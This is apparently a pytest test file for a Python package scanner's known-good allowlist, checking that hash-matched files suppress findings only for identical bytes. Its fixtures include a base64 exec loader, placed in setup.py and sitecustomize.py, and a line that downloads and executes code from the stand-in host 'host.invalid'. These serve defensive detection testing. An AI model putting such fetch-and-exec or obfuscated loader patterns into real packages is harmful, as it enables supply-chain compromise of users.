"""Known-good files: identical bytes silence what these bytes say, and nothing else."""

from __future__ import annotations

from dataclasses import replace
from hashlib import sha256
from typing import TYPE_CHECKING

import pytest

from benchmarks.known_files import lines_of, merged
from scanner.inspect import inspect
from scanner.known import read_known
from scanner.model import Finding, Kind, Sha256Hex
from scanner.ruleset import DEFAULT_RULES, Ruleset, RulesetBroken
from tests.fixtures.artifacts import build_sdist, build_wheel

if TYPE_CHECKING:
    from collections.abc import Mapping
    from pathlib import Path

LOADER = (
    "import base64, os\n\ndef load(text):\n    exec(base64.b64decode(text))\n\nexec(base64.b64decode('bWFya2Vy'))\n"
)
RULES = Ruleset.load()


def content(members: Mapping[str, str | bytes], *known: str | bytes) -> list[Finding]:
    rules = replace(RULES, known=frozenset(digest(one) for one in known))
    found = inspect(build_wheel("thing", "1.0", members).data, "thing-1.0-py3-none-any.whl", rules).findings
    return [finding for finding in found if finding.kind in {Kind.BEHAVIOUR, Kind.TEXT, Kind.BINARY}]


def digest(data: str | bytes) -> Sha256Hex:
    return Sha256Hex(sha256(data.encode() if isinstance(data, str) else data).hexdigest())


def test_the_same_bytes_under_any_name_say_nothing() -> None:
    assert content({"thing/a.py": LOADER})
    assert not content({"thing/_vendor/other.py": LOADER}, LOADER)


@pytest.mark.parametrize("change", [LOADER + " ", LOADER.replace("text", "texts"), LOADER.upper().lower() + "#"])
def test_other_bytes_say_what_they_say(change: str) -> None:
    assert content({"thing/a.py": change}, LOADER)


def test_a_known_neighbour_lowers_nothing() -> None:
    alone = {finding.rule for finding in content({"thing/b.py": LOADER + "x = 1\n"})}
    beside = {f.rule for f in content({"thing/a.py": LOADER, "thing/b.py": LOADER + "x = 1\n"}, LOADER)}
    assert alone
    assert beside == alone


def test_a_known_file_that_is_made_to_act_says_so() -> None:
    known = "import requests\ndef run():\n    exec(requests.get('http://host.invalid/marker').text)\n"
    assert not content({"thing/a.py": known}, known)
    assert not content({"thing/a.py": known, "thing/b.py": "from thing import a\n"}, known)
    found = content({"thing/a.py": known, "thing/b.py": "from thing.a import run\nrun()\n"}, known)
    assert {finding.rule for finding in found} >= {"download-exec"}


@pytest.mark.parametrize("name", ["sitecustomize.py", "thing-1.0.data/purelib/sitecustomize.py"])
def test_where_python_runs_it_by_itself_a_known_file_is_judged_like_any_other(name: str) -> None:
    assert content({"thing/__init__.py": "", name: LOADER}, LOADER)


def test_a_known_setup_script_is_judged_like_any_other() -> None:
    data = build_sdist("thing", "1.0", {"setup.py": LOADER}).data
    found = inspect(data, "thing-1.0.tar.gz", replace(RULES, known=frozenset({digest(LOADER)}))).findings
    assert any(finding.member.endswith("setup.py") and finding.kind is Kind.BEHAVIOUR for finding in found)


def test_a_known_wheel_inside_is_known_with_all_that_it_holds() -> None:
    inner = build_wheel("inner", "1.0", {"inner/__init__.py": LOADER}).data
    members: dict[str, str | bytes] = {"thing/__init__.py": "WHEEL = 'inner.whl'\n", "thing/inner.whl": inner}
    assert content(members)
    assert not content(members, inner)


def test_our_own_lists_are_read_and_are_part_of_the_ruleset() -> None:
    lines = sum(
        line[:1] not in {"", "#"}
        for path in (DEFAULT_RULES / "known").glob("*.txt")
        for line in path.read_text(encoding="utf-8").splitlines()
    )
    assert len(RULES.known) == lines > 0


@pytest.mark.parametrize("line", ["0" * 63 + "  p 1 m", "0" * 64 + " p 1 m", "0" * 64 + "  p 1", "marker", "0" * 64])
def test_a_line_that_is_no_entry_breaks_the_list(line: str) -> None:
    with pytest.raises(ValueError, match=r"known/x\.txt:2"):
        read_known("x.txt", f"# a comment\n{line}\n")


def test_a_broken_list_breaks_the_ruleset(tmp_path: Path) -> None:
    for path in DEFAULT_RULES.rglob("*"):
        if path.is_file():
            copy = tmp_path / path.relative_to(DEFAULT_RULES)
            copy.parent.mkdir(parents=True, exist_ok=True)
            copy.write_bytes(path.read_bytes())
    Ruleset.load(tmp_path)
    (tmp_path / "known" / "vendored.txt").write_text("marker\n", encoding="utf-8")
    with pytest.raises(RulesetBroken, match=r"known/vendored\.txt:1"):
        Ruleset.load(tmp_path)


def test_lines_are_made_from_what_a_rule_speaks_of_and_merged_once(tmp_path: Path) -> None:
    path = tmp_path / "thing-1.0-py3-none-any.whl"
    path.write_bytes(build_wheel("thing", "1.0", {"thing/a.py": LOADER, "thing/b.py": "x = 1\n"}).data)
    assert list(lines_of(path, ["*"], RULES)) == [f"{digest(LOADER)}  thing 1.0 thing/a.py"]
    assert list(lines_of(path, ["other/*"], RULES)) == []
    (whole,) = lines_of(path, [], None)
    assert whole == f"{digest(path.read_bytes())}  thing 1.0 {path.name}"
    text = merged("# About.\n", [whole])
    assert merged(text, [whole]) == text == f"# About.\n{whole}\n"
